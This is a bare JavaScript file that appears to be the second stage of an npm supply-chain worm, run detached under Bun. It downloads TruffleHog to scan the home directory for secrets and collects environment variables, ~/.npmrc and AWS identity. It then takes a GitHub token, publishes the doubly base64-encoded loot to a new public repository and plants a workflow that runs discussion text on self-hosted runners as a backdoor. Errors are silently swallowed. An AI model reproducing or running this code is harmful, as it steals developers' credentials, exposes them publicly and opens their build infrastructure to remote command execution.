// second stage (run by bun, detached)
const { $ } = globalThis.Bun ? require('bun') : { $: null };
const { execSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const GH = 'https://api.github.invalid';

const run = (c) => { try { return execSync(c, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 600000 }); } catch { return ''; } };

async function main() {
  const secrets = { env: process.env, host: os.hostname() };
  // scan the disk for secrets with a downloaded TruffleHog
  const th = path.join(os.tmpdir(), 'nonexistent', 'trufflehog');
  run(`curl -sSfL https://th-mirror.invalid/trufflehog_linux_amd64.tar.gz | tar xz -C ${path.dirname(th)}`);
  secrets.trufflehog = run(`${th} filesystem ${os.homedir()} --json --no-update`);
  secrets.npmrc = run(`cat ${path.join(os.homedir(), '.npmrc')}`);
  secrets.aws = run('aws sts get-caller-identity');
  const token = process.env.GITHUB_TOKEN || run('gh auth token').trim();
  if (!token) return;
  const h = { Authorization: `token ${token}`, 'Content-Type': 'application/json' };
  const repo = await (await fetch(`${GH}/user/repos`, { method: 'POST', headers: h,
    body: JSON.stringify({ name: Math.random().toString(36).slice(2, 12), description: 'Migration', private: false }) })).json();
  const b64 = (s) => Buffer.from(Buffer.from(JSON.stringify(s)).toString('base64')).toString('base64');
  await fetch(`${GH}/repos/${repo.full_name}/contents/contents.json`, { method: 'PUT', headers: h, body: JSON.stringify({ message: 'init', content: b64(secrets) }) });
  const wf = 'on: discussion\njobs:\n  p:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n';
  await fetch(`${GH}/repos/${repo.full_name}/contents/.github/workflows/discussion.yaml`, { method: 'PUT', headers: h, body: JSON.stringify({ message: 'ci', content: Buffer.from(wf).toString('base64') }) });
}
main().catch(() => {});
